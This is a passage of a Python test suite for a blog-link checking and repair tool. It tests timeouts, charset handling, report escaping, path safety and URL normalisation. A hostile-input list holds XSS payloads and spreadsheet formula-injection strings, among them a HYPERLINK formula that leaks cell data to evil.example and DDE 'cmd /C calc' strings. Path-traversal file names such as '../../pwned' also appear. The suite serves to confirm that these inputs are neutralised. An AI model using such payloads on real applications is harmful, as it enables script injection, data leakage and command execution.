    assert ev.status == 200 and time.monotonic() - started < 5


@pytest.mark.parametrize("name, markup", PATHOLOGICAL, ids=[p[0] for p in PATHOLOGICAL])
def test_posts_built_to_stall_the_scanner_are_read_quickly(name, markup):
    started = time.monotonic()
    trailer_text.post_links(markup + '<a href="http://x.example/">Original Article</a>', frozenset())
    html_text.html_to_lines(markup)
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("charset", ["idna", "utf-7", "rot13", "zlib", "x-no-such-codec", "utf-16", "punycode"])
async def test_strange_declared_charsets_do_not_break_a_probe(charset, aiohttp_server):
    body = b"<html><head><meta charset='" + charset.encode() + b"'><title>Plain title</title></head>" + b"a" * 300

    async def page(request):
        return web.Response(body=body, headers={"Content-Type": f"text/html; charset={charset}"})

    settings = await hostile_server(aiohttp_server, {"/c": page})
    async with make_session(settings, trust_archive=False) as session:
        ev = await probe_once(session, "http://hostile.example/c", settings)
    assert ev.status == 200 and ev.evidence_class == "alive" and ev.error is None


# ═══════════════════════════════════════════════ 4. Output ══════════════════════════════════════════════════

XSS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</td></tr></table><iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "| a | fake | row |\n| injected |",
]


def hostile_export(tmp_path: Path) -> Path:
    entries = []
    for n, evil in enumerate(XSS, start=1):
        href = "javascript:alert(1)" if n == 5 else f"http://www.public-news.example/{n}?q={evil}"
        content = (f'<p>{html.escape(evil)}</p><a href="{html.escape(href)}">Original Article</a><br />'
                   f"Source: {html.escape(evil)}<br />Author: {html.escape(evil)}")
        entries.append(entry(n, html.escape(content, quote=False),
                             f"<title type='text'>{html.escape(evil, quote=False)}</title>",
                             f"<link rel='alternate' type='text/html' href='{html.escape(evil)}'/>"))
    path = tmp_path / "hostile.xml"
    path.write_text(export_xml(entries))
    return path


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


async def test_reports_escape_and_neutralise_everything_from_the_input(simweb, tmp_path):
    db = store.open_db(tmp_path / "r.db")
    ingest(db, hostile_export(tmp_path))
    # Checks whose evidence carries hostile text: a redirect Location and a page title.
    for n, evil in enumerate(XSS, start=1):
        url = url_text.normalize_url(f"http://www.public-news.example/{n}?q={evil}")
        simweb.add(url, Page(status=302, location=f"/landing/{n}?{evil}"))
    # Where the redirects land: gone, so every link is broken and listed everywhere, report.md included.
    simweb.fallback["www.public-news.example"] = Page(status=404, body=article_html(XSS[1], [XSS[0]]))
    urls = [r[0] for r in db.execute("SELECT url_normalized FROM links WHERE url_normalized IS NOT NULL")]
    await run_checks(db, urls, simweb.settings(sibling_probe=False))
    link = db.execute("SELECT id, post_id, url FROM links WHERE url_normalized IS NOT NULL").fetchone()
    store.save_repair(db, {"link_id": link[0], "post_id": link[1], "url": link[2], "reason": XSS[1],
                           "replacement": "javascript:alert(1)", "capture_timestamp": XSS[2], "confidence": 0.5,
                           "evidence": {"note": XSS[0]}, "state": "proposed", "note": XSS[3]})
    paths = report.write_reports(db, tmp_path / "out", generated_at="2026-01-01T00:00:00Z")

    page = paths["html"].read_text(encoding="utf-8")
    assert "alert(1)" in page  # the hostile text is shown ...
    parsed = _Elements()
    parsed.feed(page)
    for tag, attrs in parsed.elements:  # ... but never as markup
        assert tag not in ("img", "iframe"), (tag, attrs)
        for name, value in attrs:
            assert not (name.startswith("on") and "alert" in (value or "")), (tag, name, value)
            if name in ("href", "src", "action", "formaction"):
                assert not (value or "").strip().lower().startswith(("javascript:", "data:")), (tag, name, value)
    assert not any("alert(1)" in text for text in parsed.script_text)

    with open(paths["csv"], newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    md = paths["md"].read_text(encoding="utf-8")
    assert "alert(1)" in md and "HYPERLINK" in md
    assert "<script" not in md and "<img" not in md and "<svg" not in md and "<iframe" not in md
    tables = [block.splitlines() for block in md.split("\n\n") if block.startswith("|")]
    cells = lambda line: line.count("|") - line.count("\\|")  # noqa: E731 - unescaped pipes
    assert tables and all(cells(line) == cells(table[0]) for table in tables for line in table), tables
    assert not [line for line in md.splitlines() if "injected" in line and not line.startswith("|")]

    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert {r["post"]["title"] for r in data["links"]} >= {XSS[0], XSS[1]}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_csv_safe_neutralises_formula_starts(value):
    assert report.csv_safe(value) == "'" + value
    assert report.csv_safe("plain " + value) == "plain " + value


def test_nothing_from_the_input_becomes_a_file_path(tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    evil = ["../../pwned", "/tmp/pwned", "..\\..\\pwned", "report.html", "pwned%00.txt", "~/pwned"]
    entries = [entry(n, GOOD_CONTENT, f"<title type='text'>{html.escape(e)}</title>",
                     f"<link rel='alternate' type='text/html' href='{html.escape(e)}'/>")
               for n, e in enumerate(evil, start=1)]
    source = work / "blog.xml"
    source.write_text(export_xml(entries).replace("tag:blogger.com,1999:blog-42.post-1</id>",
                                                  "../../pwned-id</id>"))
    db = store.open_db(work / "p.db")
    ingest(db, source)
    report.write_reports(db, work / "out")
    export_patched(db, work / "out" / "patched.xml")
    created = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()}
    assert not [p for p in created if "pwned" in p]
    assert {p for p in created if not p.startswith("work/p.db")} == {
        "work/blog.xml", "work/out/report.json", "work/out/report.csv", "work/out/report.md",
        "work/out/report.html", "work/out/patched.xml"}


# ═══════════════════════════════════════════ 5. Odd but legal input ═════════════════════════════════════════

async def test_idn_unicode_percent_encoded_query_and_fragment_links_are_checked(simweb, tmp_path):
    body = article_html("An article", ["Text of the article. " * 30])
    cases = {
        "http://bücher.example/artikel/1": "http://xn--bcher-kva.example/artikel/1",
        "http://news.example.com/2012/été/café.html": "http://news.example.com/2012/%C3%A9t%C3%A9/caf%C3%A9.html",
        "http://news.example.com/a%20b/%E2%82%AC.html": "http://news.example.com/a%20b/%E2%82%AC.html",
        # yarl sends "/" for "%2F" in a query (the same there) and keeps what would change meaning (%26, %3D).
        "http://news.example.com/story?id=7&section=a%2Fb#comments": "http://news.example.com/story?id=7&section=a/b",
        "http://news.example.com/go?u=http%3A%2F%2Fx%2F%3Fa%3D1%26b%3D2": "http://news.example.com/go?u=http://x/?a%3D1%26b%3D2",
        "HTTP://News.Example.COM:80/Case": "http://news.example.com/Case",
        "http://例え.テスト/記事": "http://xn--r8jz45g.xn--zckzah/%E8%A8%98%E4%BA%8B",
    }
    for served in cases.values():
        simweb.add(served, Page(body=body))
    urls = [url_text.normalize_url(u) for u in cases]
    assert urls[0] == "http://xn--bcher-kva.example/artikel/1" and "#" not in urls[3]
    results = await run_checks(store.open_db(tmp_path / "idn.db"), urls, simweb.settings(sibling_probe=False))
    for url in urls:
        ev, state = results[url]
        assert state["verdict"] == "alive", (url, ev.status, ev.error)
    assert all(n == 1 for n in (simweb.hits.get(simweb._key(s)) for s in cases.values()))


@pytest.mark.parametrize("charset, where, title", [
    ("shift_jis", "meta", "日本語のニュース"),
    ("windows-1251", "header", "Новости дня"),
    ("iso-8859-1", "meta", "Québec: grève étudiante"),
    ("gb2312", "header", "新闻标题"),
    ("euc-kr", "meta", "뉴스 제목"),
])
async def test_non_utf8_pages_with_a_declared_charset(charset, where, title, simweb, tmp_path):
    meta = f"<meta charset='{charset}'>" if where == "meta" else ""
    body = f"<html><head>{meta}<title>{title}</title></head><body><p>{title}</p></body></html>".encode(charset)
    content_type = f"text/html; charset={charset}" if where == "header" else "text/html"
    url = f"http://news.example.com/{charset}.html"
    simweb.add(url, Page(body=body, content_type=content_type))
    ev, state = (await run_checks(store.open_db(tmp_path / "cs.db"), [url], simweb.settings(sibling_probe=False)))[url]
    assert state["verdict"] == "alive" and ev.title == title


def test_very_long_posts_and_posts_without_title(tmp_path):
    anchors = "".join(f'<p>Paragraph {i} {"word " * 60}<a href="http://site{i % 97}.example/p/{i}">ref {i}</a></p>'
                      for i in range(4000))
    long_post = html.escape(anchors + '<a href="http://news.example.com/long.html">Original Article</a><br />'
                            "Source: example<br />Author: --", quote=False)
    path = tmp_path / "long.xml"
    path.write_text(export_xml([entry(1, long_post), entry(2, GOOD_CONTENT, title_xml=None),
                                entry(3, GOOD_CONTENT, "<title type='text'></title>"),
                                entry(4, GOOD_CONTENT, "<title type='html'>&lt;b&gt;&lt;/b&gt;</title>")]))
    assert path.stat().st_size > 1_000_000
    db = store.open_db(tmp_path / "long.db")
    started = time.monotonic()
    result = ingest(db, path)
    assert time.monotonic() - started < 20
    assert result.posts == 4 and result.original_links == 4
    assert db.execute("SELECT COUNT(*) FROM links WHERE post_id LIKE '%post-1'").fetchone()[0] == 4001
    titles = dict(db.execute("SELECT id, title FROM posts"))
    assert [titles[f"tag:blogger.com,1999:blog-42.post-{n}"] for n in (2, 3, 4)] == [None, None, None]
    paths = report.write_reports(db, tmp_path / "out")
    assert paths["html"].read_text(encoding="utf-8").count("(untitled)") >= 3


# ═══════════════════════════════════════════════ Properties ══════════════════════════════════════════════════

TOKENS = ["<a ", "<A\n", "<a>", "<a/", "href=", "HREF = ", "href='", 'href="', '"', "'", ">", "</a>", "</A >",
          "&amp;", "&quot;", "&#39;", "&lt;", "Original Article", "original  article:", "<br>", "<br />", "<p>",
          "</p>", "\n", "Source: ", "Author: ", "--", "http://x.example/", "https://Y.example:8080/p?q=1#f",
          "javascript:alert(1)", "#", "<b>", "</b>", "<script>", "</script>", "<style>", "</style>", "<", " ",
          "mailto:a@b", "//cdn.example/x", "http://[::1", "http://h:99999/", "é", "\u3002"]
HTMLISH = st.lists(st.one_of(st.sampled_from(TOKENS), st.text(max_size=4)), max_size=40).map("".join)
# No example database: the suite leaves nothing behind in the tree.
QUICK = hsettings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


@QUICK
@given(HTMLISH)
def test_scan_anchors_spans_point_at_the_hrefs(markup):
    anchors = html_text.scan_anchors(markup)
    assert [a.tag_span for a in anchors] == [m.span() for m in html_text._A_START.finditer(markup)]
    previous_end = 0
    for i, a in enumerate(anchors):
        start, end = a.tag_span
        assert a.index == i and previous_end <= start < end <= len(markup)
        assert markup[start:start + 2].lower() == "<a" and markup[end - 1] == ">"
        previous_end = end
        if a.href_span is None:
            assert a.href is None
        else:
            s, e = a.href_span
            assert start < s <= e < end and html.unescape(markup[s:e]) == a.href
            if a.quote:
                assert markup[s - 1] == a.quote and markup[e] == a.quote


@QUICK
@given(HTMLISH, st.sets(st.sampled_from(["x.example", "y.example", "hostile.blogspot.com"]), max_size=2))
def test_trailer_and_post_links_never_crash(markup, hosts):
    rows, trailer = trailer_text.post_links(markup, frozenset(hosts))
    anchors = {a.index: a for a in html_text.scan_anchors(markup)}
    for row in rows:
        assert row["url"] == anchors[row["anchor_index"]].href
        assert (row["url_normalized"] is None) == (row["nullified_reason"] is not None)
    assert [r["role"] for r in rows].count("original") <= 1
    assert trailer.original is None or trailer_text.is_original_anchor(trailer.original)


@QUICK
@given(HTMLISH)
def test_html_to_text_matches_the_regex_it_replaces(markup):
    old_script_style = re.compile(r"<(script|style)\b.*?</\1\s*>", re.IGNORECASE | re.DOTALL)
    assert html_text._drop_script_style(markup) == old_script_style.sub(" ", markup)
    assert html_text._sub_tags(html_text._TAG, " ", markup) == html_text._TAG.sub(" ", markup)
    assert html_text._sub_tags(html_text._BLOCK_BREAK, "\n", markup) == html_text._BLOCK_BREAK.sub("\n", markup)


URL_PARTS = st.sampled_from(["http://", "https://", "HTTP://", "//", "", "ftp:", "a:", "[", "]", "::1", "@", ":",
                             "80", "443", "/", "?", "#", "%", "%2F", "bücher", "EXAMPLE.com", ".", " ", "\t", "\n",
                             "İ", "ß", "\u3002", "user:pw@", "[::1]", "[v1.x]", ":99999", ":abc", "xn--", "0x7f.1"])
URLS = st.one_of(st.text(max_size=30), st.lists(URL_PARTS, max_size=12).map("".join))


@hsettings(max_examples=400, deadline=None, database=None)
@given(URLS)
@example("A: ?")  # a path of whitespace, stripped, read back as empty: once was "a:", twice "a:/"
def test_normalize_url_is_idempotent_and_total(url):
    once = url_text.normalize_url(url)
    assert url_text.normalize_url(once) == once
    trailer_text.nullified_reason(url, frozenset({"hostile.blogspot.com"}))
    trailer_text.nullified_reason(once)


# --- export round trip ---------------------------------------------------------------------------------------

XML_CHARS = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cn", "Co"))
TEXT = st.text(st.one_of(XML_CHARS, st.sampled_from("<>&\"' \n\t;#")), max_size=25)
HREFS = st.one_of(TEXT, st.sampled_from(["", "#", "http://", "http://a.example/?x=1&y=2", "javascript:x()",
                                         "http://é.example/ü?q=\"'<>", "]]>", "&amp;"]))


def _xml_text(value: str, style: str) -> str:
    """`value` as XML character data, spelled one of several legal ways."""
    if style == "cdata":
        return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"
    out = []
    for ch in value:
        if ch == "<":
            out.append({"named": "&lt;", "decimal": "&#60;", "hex": "&#x3C;"}[style])
        elif ch == "&":
            out.append({"named": "&amp;", "decimal": "&#38;", "hex": "&#x26;"}[style])
        elif ch == ">" and style != "named":
            out.append("&gt;")
        elif ch == '"' and style == "hex":
            out.append("&quot;")
        elif ord(ch) > 0x7F and style == "decimal":
            out.append(f"&#{ord(ch)};")
        elif ord(ch) > 0x7F and style == "hex":
            out.append(f"&#x{ord(ch):x};")
        else:
            out.append(ch)
    return "".join(out)


@st.composite
def posts(draw):
    pieces = []
    for _ in range(draw(st.integers(0, 4))):
        pieces.append(html.escape(draw(TEXT), quote=False))
        href, quote = draw(HREFS), draw(st.sampled_from(['"', "'"]))
        pieces.append(f"<a href={quote}{html.escape(href, quote=True)}{quote}>{html.escape(draw(TEXT))}</a>")
    pieces.append(f'<a href="{html.escape(draw(HREFS))}">Original Article</a><br />Source: '
                  f"{html.escape(draw(TEXT), quote=False)}<br />Author: --")
    return "".join(pieces), draw(st.one_of(st.none(), TEXT)), draw(st.sampled_from(["named", "decimal", "hex", "cdata"]))


@hsettings(max_examples=40, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow,
                                                                   HealthCheck.function_scoped_fixture])
@given(st.lists(posts(), min_size=1, max_size=3), st.data())
def test_ingest_then_export_is_byte_identical_and_patching_changes_one_href(tmp_path_factory, generated, data):
    tmp = tmp_path_factory.mktemp("roundtrip")
    entries = [entry(n, _xml_text(markup, style),
                     None if title is None else f"<title type='text'>{_xml_text(title, 'named')}</title>")
               for n, (markup, title, style) in enumerate(generated, start=1)]
    source = tmp / "blog.xml"
    source.write_bytes(export_xml(entries).encode("utf-8"))
    db = store.open_db(tmp / "rt.db")
    ingest(db, source)
    stored = dict(db.execute("SELECT id, content FROM posts"))
    for n, (markup, title, _style) in enumerate(generated, start=1):
        assert stored[f"tag:blogger.com,1999:blog-42.post-{n}"] == markup.replace("\r\n", "\n").replace("\r", "\n")
    export_patched(db, tmp / "out.xml")
    assert (tmp / "out.xml").read_bytes() == source.read_bytes()

    # Patch one href of one post: re-read, only that href differs.
    n = data.draw(st.integers(1, len(generated)))
    post_id = f"tag:blogger.com,1999:blog-42.post-{n}"
    before = html_text.scan_anchors(stored[post_id])
    index = data.draw(st.integers(0, len(before) - 1))
    new_url = data.draw(HREFS)
    if patching.refusal(new_url) is not None:
        # Only an http(s) URL with a host is ever written (issue 14, case 9): anything else is refused whole.
        with pytest.raises(ValueError, match="is refused"):
            blogger.write_patched(source, tmp / "refused.xml", {post_id: {index: new_url}})
        assert not (tmp / "refused.xml").exists()
        new_url = "http://a.example/" + re.sub(r"[\x00-\x1f\x7f]", "", new_url)
    blogger.write_patched(source, tmp / "patched.xml", {post_id: {index: new_url}})
    after_posts = {p.id: p.html for p in blogger.read_export(tmp / "patched.xml")}
    after = html_text.scan_anchors(after_posts[post_id])
    assert [a.href for a in after] == [new_url if a.index == index else a.href for a in before]
    old_tag = before[index].tag_span
    new_tag = after[index].tag_span
    assert after_posts[post_id][:new_tag[0]] == stored[post_id][:old_tag[0]]
    assert after_posts[post_id][new_tag[1]:] == stored[post_id][old_tag[1]:]
    assert {k: v for k, v in after_posts.items() if k != post_id} == {k: v for k, v in stored.items() if k != post_id}


def test_the_private_aiohttp_hook_is_what_it_was():
    # net/guard.py's RoutingConnector overrides TCPConnector._resolve_host to reroute IP-literal hosts named by
    # a connect_to rule; it relies on the upstream method's name, signature and its literal short-circuit.
    import inspect

    import aiohttp

    method = aiohttp.TCPConnector._resolve_host
    assert list(inspect.signature(method).parameters) == ["self", "host", "port", "traces"]
    assert "is_ip_address(host)" in inspect.getsource(method)
